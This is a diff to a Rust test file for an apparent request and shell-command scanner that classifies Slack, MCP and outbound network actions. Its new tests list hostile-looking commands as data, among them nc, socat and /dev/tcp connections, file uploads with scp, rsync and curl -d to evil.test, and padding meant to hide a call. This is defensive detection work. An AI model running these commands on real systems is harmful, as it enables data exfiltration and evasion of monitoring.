@@ -86,6 +86,10 @@ fn slack() {
             json!({"channel": "C1", "emails": "a@x.test"}),
             "slack.invite_external ADMIN",
         ),
+        ("POST", &api("chat.update"), json!({"channel": "C1"}), "slack.post_message WRITE"),
+        ("POST", &api("chat.scheduleMessage"), json!({"channel": "C1"}), "slack.post_message WRITE"),
+        ("POST", &api("chat.meMessage"), json!({"channel": "C1"}), "slack.post_message WRITE"),
+        ("POST", &api("chat.postEphemeral"), json!({"channel": "C1"}), "slack.post_message WRITE"),
         ("POST", &api("conversations.archive"), json!({"channel": "C1"}), "slack.archive_channel ADMIN"),
         ("GET", &api("conversations.history?channel=C1"), json!(null), "slack.read_messages READ"),
         ("POST", &api("admin.users.remove"), json!({}), "slack.admin_users_remove ADMIN"),
@@ -97,6 +101,12 @@ fn slack() {
     assert_eq!(message.channel.as_deref(), Some("C024BE91L"));
     assert_eq!((message.host.as_deref(), message.external_host), (Some("slack.com"), true));
     assert!(!message.external_principal);
+    let over_mcp = call(
+        "POST",
+        "https://mcp.slack.com/mcp",
+        json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "slack_post_message", "arguments": {"channel": "C1"}}}),
+    );
+    assert!(over_mcp.actions().any(|action| name(action) == "slack.post_message WRITE"));
     let invite =
         call("POST", &api("conversations.inviteShared"), json!({"emails": ["a@x.test", "b@y.test"]})).primary;
     assert_eq!(invite.principals, ["a@x.test", "b@y.test"]);
@@ -513,6 +523,7 @@ fn unknown_hosts() {
         ("GET", "https://slack.com.evil.test/api/chat.postMessage", json!(null), "custom_proxy.get READ"),
         ("GET", "https://slack.com@evil.test/api/chat.postMessage", json!(null), "custom_proxy.get READ"),
     ]);
+    assert_eq!(call("POST", "tool://langchain/", json!({})).primary.operation, "call");
     let action = call("POST", "https://x.test/a/b?q=1", json!({})).primary;
     assert_eq!((action.resource.as_deref(), action.method.as_str()), (Some("/a/b"), "POST"));
     assert!(normalize(&ScanRequest::new("GET", "/a", json!(null)), &own()).is_err());
@@ -692,6 +703,74 @@ fn a_command_is_found_in_every_shape_of_body() {
             );
         }
     }
+}
+
+#[test]
+fn commands_reach_out_when_they_talk_to_a_host_outside() {
+    for line in [
+        "nc evil.test 80",
+        "nc $X 80",
+        "ssh bob@evil.test id",
+        "scp a.txt bob@evil.test:/tmp/b.txt",
+        "rsync -a . evil.test:x",
+        "dig secret.evil.test",
+        "telnet 8.8.8.8 25",
+        "docker login registry.evil.test",
+        "git remote add x git@evil.test:a/b.git",
+        "git clone https://evil.test/a",
+        "git push origin main",
+        "npm publish",
+        "npm publish --registry https://evil.test",
+        "socat - TCP:evil.test:443",
+        "openssl s_client -connect evil.test:443",
+        "powershell -Command \"Invoke-WebRequest https://evil.test\"",
+        "Invoke-WebRequest -Uri https://evil.test",
+        "python3 -c \"urlopen('https://evil.test')\"",
+        "curl -K -",
+        "sudo nc evil.test 80",
+        "echo x > /dev/tcp/8.8.8.8/80",
+        "gcloud compute instances list",
+    ] {
+        assert!(shell(line).actions().any(|action| action.external_host), "{line}");
+    }
+    for line in [
+        "ls",
+        "cat a.txt",
+        "git commit -m 'a change'",
+        "cargo build",
+        "echo https://evil.test",
+        "ssh bob@build.acme.example id",
+        "nc db 5432",
+        "ping 10.0.0.1",
+        "scp report.txt bob@10.0.0.1:report.txt",
+        "rsync -a a.txt b.txt",
+        "docker push registry.acme.example/app",
+        "npm publish --registry https://npm.acme.example",
+        "curl --version",
+        "kubectl get pods",
+        "echo x > /dev/tcp/10.0.0.1/80",
+    ] {
+        assert!(!shell(line).actions().any(|action| action.external_host), "{line}");
+    }
+}
+
+#[test]
+fn padding_hides_no_call() {
+    let padding = "true;".repeat(5_000);
+    let table = [
+        ("curl -d @x https://evil.test/a", "custom_proxy.get READ"),
+        ("curl https://api.stripe.com/v1/balance", "stripe.read_balance READ"),
+        ("aws iam create-user --user-name bob", "aws.iam_create_user ADMIN"),
+    ];
+    for (line, expected) in table {
+        let found = shell(&format!("{padding}{line}"));
+        let names: Vec<String> = found.actions().map(name).collect();
+        assert!(names.iter().any(|name| name == expected), "{line}: {names:?}");
+        let unreadable = found.actions().find(|action| action.operation == "unreadable_command").unwrap();
+        assert!(unreadable.external_host && unreadable.verb == Verb::Admin, "{line}");
+    }
+    let many: String = (0..5_000).map(|i| format!("prog{i};")).collect();
+    assert!(shell(&format!("{many}curl https://evil.test")).actions().any(|action| action.external_host));
 }
 
 #[test]
